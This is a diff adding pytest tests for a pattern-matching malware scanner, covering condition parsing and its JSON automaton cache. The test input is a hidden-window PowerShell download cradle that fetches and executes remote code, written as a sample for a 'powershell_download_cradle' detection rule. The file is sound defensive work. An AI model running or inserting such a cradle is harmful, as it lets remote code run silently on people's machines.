@@ -0,0 +1,44 @@
+"""Tests for src.rules."""
+
+import json
+
+import pytest
+
+from src import rules
+from src.rules import DEFAULT_RULES, RuleError, RuleSet, compile_condition
+
+SAMPLE = b"powershell -nop -w hidden IEX (New-Object Net.WebClient).DownloadString('http://x')"
+
+
+@pytest.mark.parametrize("text", ["#a", "#a >=", "(", "$a and", "not", "2 of", "any"])
+def test_truncated_condition_raises_rule_error(text):
+    with pytest.raises(RuleError):
+        compile_condition(text, ["$a"])
+
+
+def _matches(ruleset):
+    scanner = ruleset.scanner()
+    scanner.update(SAMPLE)
+    return scanner.matches()
+
+
+def test_python_automaton_json_cache_round_trip(tmp_path, monkeypatch):
+    monkeypatch.setattr(rules, "ahocorasick", None)
+    compiled = RuleSet(DEFAULT_RULES, cache_dir=tmp_path)
+    cached = list(tmp_path.glob("*.json"))
+    assert len(cached) == 1
+
+    loaded = RuleSet(DEFAULT_RULES, cache_dir=tmp_path)
+    assert _matches(loaded) == _matches(compiled)
+    assert {m["rule"] for m in _matches(loaded)} >= {"powershell_download_cradle", "urls"}
+
+
+def test_malformed_json_cache_is_recompiled(tmp_path, monkeypatch):
+    monkeypatch.setattr(rules, "ahocorasick", None)
+    compiled = RuleSet(DEFAULT_RULES, cache_dir=tmp_path)
+    cache_file = next(tmp_path.glob("*.json"))
+    tables = json.loads(cache_file.read_text())
+    tables["true"]["delta"][0][0] = 10 ** 9  # out-of-range state
+    cache_file.write_text(json.dumps(tables))
+
+    assert _matches(RuleSet(DEFAULT_RULES, cache_dir=tmp_path)) == _matches(compiled)